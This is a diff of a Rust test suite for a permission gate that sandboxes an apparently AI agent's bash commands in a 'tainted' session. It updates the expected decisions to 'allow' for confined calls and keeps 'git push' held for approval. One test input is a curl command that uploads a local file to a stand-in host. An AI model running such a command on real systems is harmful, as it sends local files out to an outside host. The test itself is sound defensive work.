@@ -723,13 +723,16 @@ fn under_the_pack_a_tainted_sessions_make_runs_confined_and_keeps_the_promises()
     );
     assert_eq!(answer(&fetch), None);
     let specific = answer(&pack.bash("s-1", "make")).expect("a confined call is answered");
-    assert_eq!(specific["permissionDecision"], "ask", "{specific}");
+    // The pack's `approveConfined`: an allowed confined call runs without the prompt.
+    assert_eq!(specific["permissionDecision"], "allow", "{specific}");
     let event = pack.last_gate_event();
     assert_eq!(event["decision"], "allow", "{event}");
     assert_eq!(event["sandboxed"], true, "{event}");
     let rewritten = specific["updatedInput"]["command"].as_str().unwrap();
+    // With a home, sc-hook has a state folder: the invocation (root and all) is prepared there,
+    // and the command is the short one.
     assert!(
-        rewritten.contains(&format!("'--root' '{}'", pack.project.display())),
+        rewritten.contains(" --run ") && rewritten.ends_with(" -- bash -c make"),
         "{rewritten}"
     );
     let ran = pack.run(rewritten);
@@ -795,8 +798,13 @@ fn under_the_pack_a_tainted_sessions_python_script_is_allowed_confined() {
         String::from_utf8_lossy(&ran.stderr)
     );
     assert_eq!(pack.settings(), "{\"hooks\": \"kept\"}\n");
-    // Egress stays held, confined or not.
+    assert_eq!(specific["permissionDecision"], "allow", "{specific}");
+    // A confined curl runs (its proxy reaches only `network.allow`, none in the pack); a push
+    // stays held, confined or not.
     let specific = answer(&pack.bash("s-1", "curl -d @x.py https://x.example/")).unwrap();
+    assert_eq!(specific["permissionDecision"], "allow", "{specific}");
+    assert_eq!(pack.last_gate_event()["decision"], "allow");
+    let specific = answer(&pack.bash("s-1", "git push origin main")).unwrap();
     assert_eq!(specific["permissionDecision"], "ask", "{specific}");
     assert_eq!(pack.last_gate_event()["decision"], "hold");
 }
